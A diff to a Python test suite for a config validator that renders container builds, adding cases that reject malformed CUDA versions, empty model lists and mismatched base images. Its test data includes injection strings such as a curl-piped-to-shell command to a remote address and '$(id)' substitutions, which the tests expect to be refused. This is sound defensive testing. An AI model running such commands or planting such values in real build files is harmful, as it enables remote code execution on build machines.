@@ -168,6 +168,13 @@ SPECIFIC: list[tuple[str, str, Any, str]] = [
     ("patch-newline", "patches", ["patches/ok.patch\nRUN id"], "patches[0]"),
     ("patch-dev-zero", "patches", ["/dev/zero"], "patches[0]"),
     ("patch-missing", "patches", ["patches/none.patch"], "patches[0]"),
+    # NVIDIA numbers a toolkit MAJOR.MINOR[.PATCH]; anything else would reach the labels and
+    # the nvcc check (which compares "release MAJOR.MINOR," with what nvcc prints)
+    ("cuda-version-4-parts", "cuda.version", "13.0.2.1", "cuda.version"),
+    ("cuda-version-rc", "cuda.version", "13.0.2-rc", "cuda.version"),
+    ("cuda-version-major-only", "cuda.version", "13", "cuda.version"),
+    ("cuda-version-v", "cuda.version", "v13.0.2", "cuda.version"),
+    ("coherence-models-empty", "verify.coherence.models", [], "verify.coherence.models"),
 ]
 
 PACKAGES = ["curl; curl 198.51.100.1|sh;", "curl\n", "Curl", "-rf", "a b", "$(id)", "`id`", "", "c", "curl\nRUN id", "g++ ", "x'y"]
@@ -204,7 +211,8 @@ def test_hostile_field_is_refused_by_validate(case: str, mutate: Mutation, field
 
 # a sample of the injections through render: exit 1 and no output directory at all
 RENDER_NAMED = {"env-value-yes", "env-value-null", "env-value-newline", "env-key-0", "base-newline-from", "repo-url-subshell",
-                "torch-index-semicolon", "wheel-url-quote", "package-0", "args-newline", "cuda-home-space"}
+                "torch-index-semicolon", "wheel-url-quote", "package-0", "args-newline", "cuda-home-space",
+                "cuda-version-rc", "cuda-version-4-parts", "coherence-models-empty"}
 RENDER_SAMPLE = [c for c in CASES if c[0].endswith("+0") or c[0].startswith("patch-") or c[0] in RENDER_NAMED]
 
 
@@ -221,6 +229,47 @@ def test_hostile_field_is_refused_by_render_and_nothing_is_written(case: str, mu
     assert sorted(p.name for p in project.iterdir()) == before
     if out.parent.exists():
         assert not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")], "a temporary directory was left"
+
+
+# --- one line, and nothing derived, for a CUDA version or base that cannot be built -----------
+
+ONE_LINE_CASES = [
+    ("cuda-version-4-parts", _set("cuda.version", "13.0.2.1"), "cuda.version"),
+    ("cuda-version-rc", _set("cuda.version", "13.0.2-rc"), "cuda.version"),
+    ("coherence-models-empty", _set("verify.coherence.models", []), "verify.coherence.models"),
+]
+
+
+@pytest.mark.parametrize(("case", "mutate", "field"), ONE_LINE_CASES, ids=[c[0] for c in ONE_LINE_CASES])
+def test_a_bad_cuda_version_or_empty_model_list_is_one_line_and_reaches_no_label(
+    case: str, mutate: Mutation, field: str, project: Path
+) -> None:
+    doc = copy.deepcopy(BASE_DOC)
+    mutate(doc)
+    path = _write(project, doc, name=f"one-{_slug(case)}")
+    result = run_cli(["plan", str(path), "--field", "labels"], cwd=project)
+    assert_clean_failure(result, rc=1, names=[f"{path}: {field}"], wall_s=FAST_S, rss_mb=SMALL_MB, max_lines=1)
+    assert result.stdout == "", f"{case}: plan printed labels: {result.stdout[:300]}"
+
+
+# CUDA 13 pins with the base of another toolkit, in every tag shape nvidia/cuda (or a mirror) uses
+OTHER_TOOLKIT_BASES = ["12.9.1-devel-ubuntu24.04", "12.9-devel-ubuntu24.04", "12.8.1-cudnn-devel-ubuntu24.04", "12.9.1",
+                       "13.1.0-devel-ubuntu24.04"]
+
+
+@pytest.mark.parametrize("tag", OTHER_TOOLKIT_BASES)
+@pytest.mark.parametrize("version", ["13.0.2", "13.0"])
+def test_a_cuda13_pin_on_another_toolkit_base_derives_no_arch_list(tag: str, version: str, project: Path) -> None:
+    """The arch list is derived from cuda.version (12.0f on 13, 12.1a on 12.8/12.9): a base of
+    another toolkit would build other code, so nothing is derived and base-cuda-mismatch says why."""
+    doc = copy.deepcopy(BASE_DOC)
+    doc["cuda"]["version"] = version
+    doc["cuda"]["base_image"] = f"nvidia/cuda:{tag}@{DIGEST}"
+    path = _write(project, doc, name=f"mm-{_slug(tag + version)}")
+    result = run_cli(["plan", str(path), "--field", "arch_list"], cwd=project)
+    assert_clean_failure(result, rc=1, names=[f"{path}: cuda.base_image"], wall_s=FAST_S, rss_mb=SMALL_MB)
+    assert any("[base-cuda-mismatch]" in line for line in result.lines()), result.lines()
+    assert "12.1a" not in result.stdout and "12.0f" not in result.stdout, result.stdout
 
 
 # --- base-image rules hold for every registry spelling ---------------------------------------
